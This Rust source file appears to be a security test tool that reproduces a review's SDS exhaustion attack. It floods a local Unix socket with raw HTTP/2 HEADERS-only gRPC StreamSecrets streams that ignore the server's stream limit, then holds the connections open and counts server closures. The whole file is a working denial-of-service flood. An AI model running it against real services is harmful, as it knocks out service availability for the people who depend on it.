//! `sds-flood SOCKET CONNECTIONS STREAMS HOLD_SECONDS`: the adversarial review's SDS
//! exhaustion attack, as any local process could run it. It opens CONNECTIONS Unix
//! connections to SOCKET at once; on each it sends the HTTP/2 preface and STREAMS
//! HEADERS-only StreamSecrets streams (never a message), then holds the connection open
//! for HOLD_SECONDS or until the server closes it. Raw frames, not a gRPC client: a real
//! client would respect the server's stream limit, an attacker does not.
//!
//! Prints one JSON line: `{"connected", "closed_by_server", "headers_sent"}`.

use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::UnixStream;

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
const PATH: &[u8] = b"/envoy.service.secret.v3.SecretDiscoveryService/StreamSecrets";
/// HEADERS frames written per `write_all`.
const BATCH: u32 = 512;

#[derive(Default)]
struct Counts {
    connected: AtomicU64,
    closed_by_server: AtomicU64,
    headers_sent: AtomicU64,
}

#[tokio::main(flavor = "current_thread")]
async fn main() -> anyhow::Result<()> {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let [socket, connections, streams, hold] = args.as_slice() else {
        anyhow::bail!("usage: sds-flood SOCKET CONNECTIONS STREAMS HOLD_SECONDS");
    };
    let (connections, streams): (u32, u32) = (connections.parse()?, streams.parse()?);
    let hold = Duration::from_secs(hold.parse()?);
    raise_fd_limit();
    let counts = Arc::new(Counts::default());
    let mut tasks = tokio::task::JoinSet::new();
    for _ in 0..connections {
        let (socket, counts) = (socket.clone(), counts.clone());
        tasks.spawn(async move { flood_one(&socket, streams, hold, &counts).await });
    }
    while tasks.join_next().await.is_some() {}
    println!(
        "{{\"connected\":{},\"closed_by_server\":{},\"headers_sent\":{}}}",
        counts.connected.load(Ordering::Relaxed),
        counts.closed_by_server.load(Ordering::Relaxed),
        counts.headers_sent.load(Ordering::Relaxed)
    );
    Ok(())
}

/// Thousands of sockets need more than the usual soft limit of 1024 descriptors.
fn raise_fd_limit() {
    use rustix::process::{Resource, getrlimit, setrlimit};
    let mut limit = getrlimit(Resource::Nofile);
    limit.current = limit.maximum;
    let _ = setrlimit(Resource::Nofile, limit);
}

async fn flood_one(socket: &str, streams: u32, hold: Duration, counts: &Counts) {
    let Ok(mut stream) = UnixStream::connect(socket).await else {
        return;
    };
    counts.connected.fetch_add(1, Ordering::Relaxed);
    let mut closed = stream.write_all(PREFACE).await.is_err()
        || stream.write_all(&frame(4, 0, 0, &[])).await.is_err();
    let mut next_id = 1u32;
    let mut opened = 0u32;
    while !closed && opened < streams {
        let count = BATCH.min(streams - opened);
        let mut batch = Vec::new();
        for _ in 0..count {
            batch.extend(frame(1, 0x4, next_id, &headers_block()));
            next_id += 2;
        }
        opened += count;
        match stream.write_all(&batch).await {
            Ok(()) => {
                counts
                    .headers_sent
                    .fetch_add(u64::from(count), Ordering::Relaxed);
            }
            Err(_) => closed = true,
        }
    }
    // Hold it open, reading (and dropping) whatever the server sends, until it closes.
    let mut sink = vec![0u8; 16 * 1024];
    let held = tokio::time::timeout(hold, async {
        while !closed {
            match stream.read(&mut sink).await {
                Ok(0) | Err(_) => closed = true,
                Ok(_) => {}
            }
        }
    })
    .await;
    if held.is_ok() || closed {
        counts.closed_by_server.fetch_add(1, Ordering::Relaxed);
    }
}

/// One HTTP/2 frame: 24-bit length, type, flags, 31-bit stream id, payload.
fn frame(kind: u8, flags: u8, stream_id: u32, payload: &[u8]) -> Vec<u8> {
    let len = u32::try_from(payload.len()).unwrap_or(0).to_be_bytes();
    let mut out = Vec::with_capacity(9 + payload.len());
    out.extend_from_slice(&len[1..]);
    out.extend([kind, flags]);
    out.extend_from_slice(&stream_id.to_be_bytes());
    out.extend_from_slice(payload);
    out
}

/// The HPACK block of a gRPC StreamSecrets request: static-table entries and literals
/// without indexing (no dynamic table state to keep in step).
fn headers_block() -> Vec<u8> {
    let mut block = vec![0x83, 0x86]; // :method POST, :scheme http
    let mut literal = |name_index: u8, value: &[u8]| {
        block.push(name_index);
        block.push(u8::try_from(value.len()).unwrap_or(0));
        block.extend_from_slice(value);
    };
    literal(0x04, PATH); // :path
    literal(0x01, b"localhost"); // :authority
    block.extend([0x0f, 0x10]); // content-type (static index 31), then its value
    block.push(16);
    block.extend_from_slice(b"application/grpc");
    block.extend([0x00, 2]); // te: trailers, name and value literal
    block.extend_from_slice(b"te");
    block.push(8);
    block.extend_from_slice(b"trailers");
    block
}
